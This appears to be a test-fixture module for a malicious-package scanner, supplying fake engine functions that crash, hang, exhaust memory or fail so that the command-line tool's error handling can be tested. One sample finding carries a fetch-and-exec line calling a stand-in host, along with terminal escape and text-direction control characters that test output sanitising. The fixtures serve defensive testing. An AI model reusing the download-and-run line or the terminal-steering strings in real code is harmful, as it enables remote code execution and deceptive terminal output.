"""Stand-ins for the engine: the real one cannot be asked to crash."""

from __future__ import annotations

import os
import threading

from pratique.artifact import Artifact
from pratique.cli.outcome import Job
from pratique.errors import BadArchive
from pratique.finding import Behaviour, Confidence, Finding, Phase, Severity, Step
from pratique.names import Sha256, distribution_name
from pratique.verdict import Report, Verdict, weigh

NAME = "example_pkg-1.0.tar.gz"


def finding(**changes: object) -> Finding:
    """A finding whose text tries to steer a terminal."""
    values: dict[str, object] = {
        "rule": "made-up",
        "behaviour": Behaviour.SECOND_STAGE,
        "severity": Severity.CRITICAL,
        "confidence": Confidence.HIGH,
        "phase": Phase.INSTALL,
        "path": "setup.py\x1b[2J",
        "line": 3,
        "message": "Fetched code runs.\r\x1b]0;gotcha\x07\u202e",
        "layers": ("base64", "zlib"),
        "code": "exec(get('https://files.example.invalid/x').text)\x1b[31m",
        "flow": (Step(line=2, what="get"), Step(line=3, what="exec")),
        "proven": True,
    }
    return Finding(**{**values, **changes})  # type: ignore[arg-type]


def report(*findings: Finding, filename: str = NAME, error: str = "") -> Report:
    """A report as the engine would weigh it."""
    judgement = weigh(findings)
    artifact = Artifact(name=distribution_name(filename), sha256=Sha256("0" * 64), size=2048)
    return Report(
        artifact=artifact,
        verdict=Verdict.ERROR if error else judgement.verdict,
        score=judgement.score,
        findings=findings,
        error=error,
    )


def clean(job: Job) -> Report:
    """Finds nothing."""
    return report(filename=job.filename)


def crash_on_bad(job: Job) -> Report:
    """Dies without a word on one of the files."""
    if job.filename.startswith("bad"):
        os._exit(9)
    return report(filename=job.filename)


def hang_on_bad(job: Job) -> Report:
    """Never comes back on one of the files."""
    if job.filename.startswith("bad"):
        threading.Event().wait()
    return report(filename=job.filename)


def hog(job: Job) -> Report:
    """Wants more memory than a worker may have."""
    return report(filename=str(len(bytearray(1 << 40))) + job.filename)


def refuse(job: Job) -> Report:
    """Cannot open the archive."""
    raise BadArchive(f"{job.filename} is not an archive.", remedy="Download it again.")


def stumble(job: Job) -> Report:
    """Has a bug."""
    raise ZeroDivisionError(job.filename)
